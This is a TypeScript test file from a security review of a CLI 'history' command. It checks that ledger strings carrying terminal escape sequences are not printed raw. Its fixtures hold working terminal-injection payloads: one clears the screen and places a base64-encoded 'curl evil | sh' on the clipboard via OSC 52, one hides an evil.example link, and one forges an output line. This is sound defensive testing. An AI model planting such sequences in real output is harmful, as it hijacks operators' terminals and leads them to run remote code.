/**
 * Review: `selfheal history` prints ledger strings raw to the operator's terminal. The ledger is
 * an input anyone with table write controls (and the record decoder checks types only), so a
 * record whose alarm name, resource or reason carries terminal escape sequences (ESC [ 2 J clears
 * the screen, OSC 52 writes the operator's clipboard, OSC 8 hides a link behind harmless text)
 * reaches the terminal as control sequences instead of visible text.
 */
import { describe, expect, it } from 'vitest';
import type { OpenLedger } from '../../cli/history-command';
import { main } from '../../cli/main';
import { InMemoryLedger } from '../../lambdas/core/remediation/ledger-memory';
import { fakeDeps } from '../cli/fixtures/fake-deps';
import { DRY_RUN, T0 } from '../cli/fixtures/history-records';
import { memoryIo } from '../cli/fixtures/memory-io';
import { FakeClock } from '../unit/remediation/ledger-fixtures';

const ESC = '\u001b';
const BEL = '\u0007';
/** Clears the screen, then asks the terminal to put `curl evil | sh` on the clipboard (OSC 52). */
const HOSTILE_ALARM = `disk-full${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2gK${BEL}`;
const HOSTILE_RESOURCE = `i-0abc${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
const HOSTILE_REASON = `ok${ESC}[1A${ESC}[2Kforged line`;

/** An in-memory ledger holding one dry run whose strings carry escape sequences. */
async function hostileLedger(): Promise<OpenLedger> {
  const clock = new FakeClock(T0 + 7200);
  const ledger = new InMemoryLedger(clock, { retentionDays: 90 });
  await ledger.createRemediation({
    id: DRY_RUN.id,
    ruleId: DRY_RUN.ruleId,
    resourceId: HOSTILE_RESOURCE,
    alarmName: HOSTILE_ALARM,
    eventId: DRY_RUN.eventId,
    mode: 'dryRun',
    state: 'dryRun',
    verdicts: [{ guardrail: 'mode', outcome: 'block', reason: HOSTILE_REASON }],
  });
  return () => ledger;
}

async function history(args: string[], openLedger: OpenLedger) {
  const io = memoryIo();
  const code = await main(['history', ...args], io, { ...fakeDeps, openLedger });
  return { code, out: io.out.join(''), err: io.err.join('') };
}

describe('selfheal history with escape sequences in ledger strings (review)', () => {
  it('prints no raw ESC or BEL in the history table', async () => {
    const openLedger = await hostileLedger();

    const { code, out } = await history(['--table', 't'], openLedger);

    expect(code).toBe(0);
    expect(out).toContain('disk-full');
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(BEL);
  });

  it("prints no raw ESC or BEL in one remediation's timeline (--id)", async () => {
    const openLedger = await hostileLedger();

    const { code, out } = await history(['--table', 't', '--id', DRY_RUN.id], openLedger);

    expect(code).toBe(0);
    expect(out).toContain('forged line');
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(BEL);
  });
});
